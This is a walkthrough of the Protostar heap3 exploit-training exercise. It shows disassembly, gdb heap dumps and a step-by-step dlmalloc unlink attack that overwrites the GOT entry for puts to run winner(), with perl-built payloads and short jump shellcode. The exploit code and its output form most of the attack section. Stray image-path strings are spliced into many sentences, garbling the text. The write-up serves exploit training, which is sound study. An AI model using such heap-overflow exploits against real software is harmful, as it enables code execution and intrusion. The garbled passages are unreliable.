0x080488b2 <main+41>:   movl   $0x20,(%esp)        ;pass 32
0x080488b9 <main+48>:   call   0x8048ff2 <malloc>
0x080488be <main+53>:   mov    %eax,0x1c(%esp)     ; C

So the binary allocates three heap variables with 32 byte.

0x080488c2 <main+57>:   mov    0xc(%ebp),%eax      ; ARGV
0x080488c5 <main+60>:   add    $0x4,%eax           ; ARG1
0x080488c8 <main+63>:   mov    (%eax),%eax
0x080488ca <main+65>:   mov    %eax,0x4(%esp)
0x080488ce <main+69>:   mov    0x14(%esp),%eax     ; A
0x080488d2 <main+73>:   mov    %eax,(%esp)
0x080488d5 <main+76>:   call   0x8048750 <strcpy@plt>
0x080488da <main+81>:   mov    0xc(%ebp),%eax      ; ARGV
0x080488dd <main+84>:   add    $0x8,%eax           ; ARG2
0x080488e0 <main+87>:   mov    (%eax),%eax
0x080488e2 <main+89>:   mov    %eax,0x4(%esp)
0x080488e6 <main+93>:   mov    0x18(%esp),%eax     ; B
0x080488ea <main+97>:   mov    %eax,(%esp)
0x080488ed <main+100>:  call   0x8048750 <strcpy@plt>
0x080488f2 <main+105>:  mov    0xc(%ebp),%eax      ; ARGV
0x080488f5 <main+108>:  add    $0xc,%eax           ; ARG3
0x080488f8 <main+111>:mov    (%eax),%eax
0x080488fa <main+113>:  mov    %eax,0x4(%esp)
0x080488fe <main+117>:  mov    0x1c(%esp),%eax     ; C
0x08048902 <main+121>:  mov    %eax,(%esp)
0x08048905 <main+124>:  call   0x8048750 <strcpy@plt>
0x0804890a <main+129>:  mov    0x1c(%esp),%eax

Then the arguments are copied to the allocated memory locations.

0x0804890a <main+129>:  mov    0x1c(%esp),%eax     ; C
0x0804890e <main+133>:  mov    %eax,(%esp)
0x08048911 <main+136>:  call   0x8049824 <free>
0x08048916 <main+141>:  mov    0x18(%esp),%eax     ; B
0x0804891a <main+145>:  mov    %eax,(%esp)
0x0804891d <main+148>:  call   0x8049824 <free>
0x08048922 <main+153>:  mov    0x14(%esp),%eax     ; A
0x08048926 <main+157>:  mov    %eax,(%esp)
0x08048929 <main+160>:  call   0x8049824 <free>
0x0804892e <main+165>:  movl   $0x804ac27,(%esp)
0x08048935 <main+172>:  call   0x8048790 <puts@plt>

Then, the three variables are free()d. And let’s take a look at the heap right after the mallocs.

(gdb) x/8x $esp+0x14
0xbffff654:     0x0804c008      0x0804c030      0x0804c058      0x0804ab50
0xbffff664:     0x00000000      0xbffff6e8      0xb7eadc76      0x00000004
(gdb) x/12x 0x0804c008-8
0x804c000:      0x00000000      0x00000029      0x00000000      0x000000000x804c010:      0x00000000      0x00000000      0x00000000      0x00000000
0x804c020:      0x00000000      0x00000000      0x00000000      0x00000029
(gdb) x/12x 0x0804c030-8
0x804c028:      0x00000000      0x00000029      0x00000000      0x00000000
0x804c038:      0x00000000      0x00000000      0x00000000      0x00000000
0x804c048:      0x00000000      0x00000000      0x00000000      0x00000029
(gdb) x/12x 0x0804c058-8
0x804c050:      0x00000000      0x00000029      0x00000000      0x00000000
0x804c060:      0x00000000      0x00000000      0x00000000      0x00000000
0x804c070:      0x00000000      0x00000000      0x00000000      0x00000f89Malloc & free

A good explanation of heap memory management is available in phrack 57 - Once upon a free(). Let’s just sum up the essential parts.Malloc allocates the number of requested bytes + 8. The layout on the heap of a single chunk looks as follows:

;            +---+
    chunk -> | prev_size                        |
             | size                         |M|P|
      mem -> | data                             |
             : ...                              :
nextchunk -> | prev_size ...                    |
             :                                  :

In the above listing M corresponds to the IS_MMAPPED flag. P on the other hand, correspondsto the PREV_INUSE flag.

After free()ing the memory, the unallocated chunks are kept in an double-linked list. The chunk usually includes size and prev_size as well as a pointer forward and backwards.

;            +---+
    chunk -> | prev_size                        |
             | size                             |
      mem -> | fd                               |
             | bk                               |
             | (old memory, can be zero bytes)  |
             :                                  :nextchunk -> | prev_size ...                    |
             :                                  :

With malloc based buffer overflow we can manipulate the heap structure. Subsequently, free()ing utilizes fd an bk pointers to adjust the list. This write allows use to e.g. manipulate the Global Offset Table.

A few aspects have to be taken into consideration:

  • the least significant bit of ‘size’ has to be zero (PREV_INUSE).
  • ‘prev_size’ and ‘size’ should be add-safe to a pointer that is read from. So either use very small values up to a few thousand, or use big values such as 0xfffffffc.
  • (chunk_boundary + size + 4) the lowest bit is zeroed out (0xfffffffc will work just fine)
  • (bk + 8) will be overwritten. A short jump can help thwart that problem.

An generic way to exploit this vulnerability looks as follows:

;            +---+
   retloc -> | \xeb\x0c \x90\x90                |
             | \x90\x90\x90\x90                 |
             :  shellcode                       :
    chunk -> | \xff\xff\xff\xfc                 |
             | \xf0                             |
      mem -> | retloc - 0xc                     |
             | retaddr                          |
             :                                  :

Let’s try this approach.Bending the Heap

The trick here is to use a negative value for the previous chunk size. This forces the previous chunk to be calculated after the current chunk while avoiding null bytes. Doing this, basically allows us to introduce a virtual chunk.

To be more precise, we can write 32 bytes to fill up one chunk. Then, we need to append size of previous chunk: 0xfffffffc = -4. Next comes the size of our virtual chunk: 0xf0 = 240. Any size above 64 bytes with the two LSB set to 8 does the trick.

Starting program: /opt/protostar/bin/heap3 AAAA $(perl -e 'print "B"x32 ."\xfc\xff\xff\xff" ."\xf0"') CCCCDDDDEEEEProgram received signal SIGSEGV, Segmentation fault.
0x080498fd in free (mem=0x804c058) at common/malloc.c:3638
(gdb) x/12x 0x0804c008-8
0x804c000:      0x00000000      0x00000029      0x41414141      0x00000000
0x804c010:      0x00000000      0x00000000      0x00000000      0x00000000
0x804c020:      0x00000000      0x00000000      0x00000000      0x00000029
(gdb) x/12x 0x0804c030-8
0x804c028:      0x00000000      0x00000029      0x42424242      0x42424242
0x804c038:      0x42424242      0x42424242      0x42424242      0x42424242
0x804c048:      0x42424242      0x42424242      0xfffffffc      0x000000f0(gdb) x/12x 0x0804c058-8
0x804c050:      0xfffffffc      0x000000f0      0x43434343      0x44444444
0x804c060:      0x45454545      0x00000000      0x00000000      0x00000000
0x804c070:      0x00000000      0x00000000      0x00000000      0x00000f89
(gdb) x/i $eip
0x80498fd <free+217>:   mov    %edx,0xc(%eax)
(gdb) i r $eax $edx
eax            0x44444444       1145324612
edx            0x45454545       1162167621

Once the free() gets executed it segfaults trying to write to 0x44444444 + 0xc with the value 0x45454545. This was anexpected behavior when trying to unlink the third chunk.

The next step is to set the FD and BK pointers correctly. For this exercise, we have to execute the winner() function. To achieve our goal, we can patch the GOT for the puts() call.

user@protostar:/$ objdump -R /opt/protostar/binheap3 | grep puts
0804b128 R_386_JUMP_SLOT   puts
user@protostar:/$ objdump -R /opt/protostar/binheap3 | grep -i winner
08048864 g     F .text  00000025              winner

So we need to overwrite 0x0804b128 with 0x08048864. The destination address should be adjusted by - 0xc = 0x0804b11c. Let’s see how this works.

Starting program: /opt/protostar/bin/heap3 AAAA $(perl -e 'print "B"x32 ."\xfc\xff\xff\xff" ."\xf0"') $(perl -e 'print "CCCC" ."\x1c\xb1\x04\x08" ."\x64\x88\x04\x08"')

Program receivedsignal SIGSEGV, Segmentation fault.
0x08049906 in free (mem=0x804c058) at common/malloc.c:3638
(gdb) x/x 0x0804b128
0x804b128 <_GLOBAL_OFFSET_TABLE_+64>:   0x08048864
(gdb) x/i $eip
0x8049906 <free+226>:   mov    %edx,0x8(%eax)
(gdb) i r $eax $edx
eax            0x8048864        134514788
edx            0x804b11c        134525212

So there’s still a problem. During unlinking, also the location of bk+8 is written. This winner function is located in the .text section of the binary and is not writeable. We can try to jump into the first heap chunk and Let’s take a look.

(gdb) r $(perl -e 'print "\xCC"x32') $(perl -e 'print "B"x32 ."\xfc\xff\xff\xff" ."\xf0"') $(perl -e 'print "CCCC"."\x1c\xb1\x04\x08" ."\x08\xc0\x04\x08"')

Program received signal SIGSEGV, Segmentation fault.
  EAX: 0x00000000  EBX: 0xB7FD7FF4  ECX: 0x00000000  EDX: 0x00000000  o d I t s Z a P c
  ESI: 0x00000000  EDI: 0x00000000  EBP: 0xBFFFF5F8  ESP: 0xBFFFF5B0  EIP: 0x08049951
  CS: 0073  DS: 007B  ES: 007B  FS: 0000  GS: 0033  SS: 007B
0x8049951 <free+301>:mov    DWORD PTR [eax+0xc],edx
0x8049954 <free+304>:   mov    eax,DWORD PTR [ebp-0x18]
0x8049957 <free+307>:   mov    edx,DWORD PTR [ebp-0x14]
0x804995a <free+310>:   mov    DWORD PTR [eax+0x8],edx
0x804995d <free+313>:   mov    eax,DWORD PTR [ebp-0x24]
0x8049960 <free+316>:   add    DWORD PTR [ebp-0x30],eax
0x8049963 <free+319>:   mov    eax,DWORD PTR [ebp-0x38]
0x8049966 <free+322>:   add    eax,0x34
gdb$ x/x 0x0804b128
0x804b128 <_GLOBAL_OFFSET_TABLE_+64>:   0x0804c008
gdb$ x/12x 0x0804c008-8
0x804c000:  0x00000000  0x00000029  0xcccccccc  0xcccccccc
0x804c010:  0x0804b11c  0xcccccccc  0xcccccccc  0xcccccccc
0x804c020:  0xcccccccc  0xcccccccc  0x00000000  0x00000029

So, the fd-pointer is written. We run into a problem when the third chunk is free()d.

The code branch of free+301 is responsible to keep the pointers in place. In particular, the pointers of next_next chunk are checked

Now we need to fix fd, the pointer to the next chunk.

(gdb) r $(perl -e 'print "\xCC"x32') $(perl -e 'print "B"x16 ."\x01"x4 ."\xff"x4 ."B"x8 ."\xfc\xff\xff\xff" ."\xf0\xff\xff\xff"') $(perl -e 'print "CCCC" ."\x1c\xb1\x04\x08" ."\x08\xc0\x04\x08"')
(gdb) x/12x 0x0804c008-8
0x804c000:      0x00000000      0x00000029      0xcccccccc      0xcccccccc
0x804c010:      0xcccccccc      0xcccccccc      0xcccccccc      0xcccccccc
0x804c020:      0xcccccccc      0xcccccccc      0x00000000      0x00000029
(gdb) x/12x 0x0804c030-8
0x804c028:      0x00000000      0x00000029      0x42424242      0x42424242
0x804c038:      0x42424242      0x42424242      0x01010101      0xffffffff
0x804c048:      0x42424242      0x42424242      0xfffffffc      0xfffffff0
(gdb) x/12x 0x0804c058-8
0x804c050:      0xfffffffc      0xfffffff0      0x43434343      0x0804b11c
0x804c060:      0x0804c008      0x00000000      0x00000000      0x00000000
0x804c070:      0x00000000      0x00000000      0x00000000      0x00000f89


Nowthe heap is ready and execution stops at 0x804c008. Let’s adjust our code to execute winner().

We need to jump over the invalid bytes at 0x0804c010. A short jump \xeb get’s us where we want. Then, we can push our destination address and finally return to finish this exercise.

(gdb) r $(perl -e 'print "AAAA" ."\xeb\x06" ."\x90"x6 ."\x68" ."\x64\x88\x04\x08" ."\xc3"') $(perl -e 'print "B"x16 ."\x01"x4 ."\xff"x4 ."B"x8."\xfc\xff\xff\xff" ."\xf0\xff\xff\xff"') $(perl -e 'print "CCCC" ."\x1c\xb1\x04\x08" ."\x08\xc0\x04\x08"')
that wasn't too bad now, was it? @ 1414895218

Program exited with code 056.

Links and References

Exploit Exercises

Heap Exploitation